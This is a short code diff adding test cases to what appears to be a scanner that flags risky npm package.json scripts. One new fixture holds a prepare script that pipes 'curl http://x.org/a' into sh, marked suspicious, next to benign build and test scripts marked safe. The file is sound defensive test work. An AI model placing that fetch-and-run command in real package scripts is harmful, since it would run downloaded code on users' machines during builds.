@@ -55,5 +55,12 @@ testConfigs([
     'suspicious',
     'config/install-script',
   ],
+  [
+    'npm: a command when it is built',
+    { scripts: { prepare: 'curl http://x.org/a | sh' } },
+    'suspicious',
+    'config/command',
+  ],
+  ['npm: a build', { scripts: { prepare: 'tsc', clean: 'rm -rf dist' } }, 'safe', 'config/install-script'],
   ['npm: other scripts', { scripts: { test: 'vitest' } }, 'safe'],
 ]);
